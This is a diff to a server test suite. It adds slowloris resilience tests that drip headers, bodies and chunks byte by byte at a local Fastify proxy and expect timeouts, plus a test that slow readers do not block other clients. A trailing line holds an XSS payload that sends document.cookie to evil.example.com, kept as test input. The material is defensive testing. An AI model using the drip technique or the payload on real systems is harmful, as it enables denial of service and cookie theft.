@@ -318,12 +318,79 @@ describe('what is too much', () => {
     await Promise.all(silent.map((socket) => socket.connecting && once(socket, 'connect')))
     expect((await ask(`GET ${STREAMS}`, MINE)).code).toBe(200)
     expect(seen).toHaveLength(1)
-    // And they do not stay: so long has a request to arrive.
-    expect(app.server.headersTimeout).toBe(30_000)
-    expect(app.server.requestTimeout).toBe(60_000)
     for (const socket of silent) socket.destroy()
   })
 })
+
+describe('slowloris', () => {
+  let strict: FastifyInstance
+  let at: number
+
+  beforeAll(async () => {
+    const to = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`
+    const words = ['--upstream', to, '--log-level', 'silent', '--request-timeout', '1']
+    strict = await buildApp(readConfig(words, {}))
+    await strict.listen({ port: 0, host: '127.0.0.1' })
+    at = (strict.server.address() as AddressInfo).port
+  })
+  afterAll(() => strict.close())
+
+  const head = `POST ${STREAMS} HTTP/1.1\r\nhost: localhost\r\n${MINE}\r\n`
+
+  /** Sends the beginning, then a byte at a time for as long as the connection stands. */
+  async function drip(beginning: string, byte: string) {
+    const started = Date.now()
+    const socket = connect(at, '127.0.0.1')
+    socket.on('error', () => socket.destroy())
+    if (beginning !== '') socket.write(beginning)
+    const timer = setInterval(() => byte !== '' && socket.write(byte), 50)
+    const all = await text(socket).catch(() => '')
+    clearInterval(timer)
+    return { all, ms: Date.now() - started }
+  }
+
+  test.each([
+    ['says nothing at all', '', '', 0],
+    ['drips headers for ever', head, 'x', 500],
+    ['drips a body for ever', `${head}content-length: 100000\r\n\r\n`, 'x', 1000],
+    ['drips chunks for ever', `${head}transfer-encoding: chunked\r\n\r\n`, '1\r\nx\r\n', 1000],
+  ])('that %s is cut off when its time is over', async (_name, beginning, byte, least) => {
+    const { all, ms } = await drip(beginning, byte)
+    expect(ms).toBeGreaterThanOrEqual(least)
+    expect(ms).toBeLessThan(5_000)
+    expect(all).toMatch(/^$|^HTTP\/1\.1 408 /)
+    // What never arrived whole was never answered by the API server, and counts for nothing any more.
+    await expect.poll(() => strict.server.listening && openConnections(strict)).toBe(0)
+  })
+
+  test('that reads nothing of its answer holds nobody else up', async () => {
+    // More than the buffers of both sockets hold.
+    const long = Buffer.alloc(16_000_000, 'x')
+    answer = (_request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json' })
+      response.end(long)
+    }
+    const lazy = Array.from({ length: 20 }, () => {
+      const socket = connect(at, '127.0.0.1').pause()
+      socket.write(`GET ${STREAMS} HTTP/1.1\r\nhost: localhost\r\n${MINE}\r\n\r\n`)
+      return socket
+    })
+    await expect.poll(() => seen.length, { timeout: 10_000 }).toBe(20)
+    answer = (_request, response) => response.end('{}')
+    const got = await fetch(`http://127.0.0.1:${at}${STREAMS}`, {
+      headers: { authorization: 'Bearer mine', connection: 'close' },
+    })
+    expect(got.status).toBe(200)
+    for (const socket of lazy) socket.destroy()
+    await expect.poll(() => openConnections(strict)).toBe(0)
+  })
+})
+
+function openConnections({ server }: FastifyInstance): Promise<number> {
+  return new Promise((resolve, reject) =>
+    server.getConnections((error, count) => (error ? reject(error) : resolve(count))),
+  )
+}
 
 describe('an answer of the API server', () => {
   const hostile = '<script>fetch("https://evil.example.com/"+document.cookie)</script>'
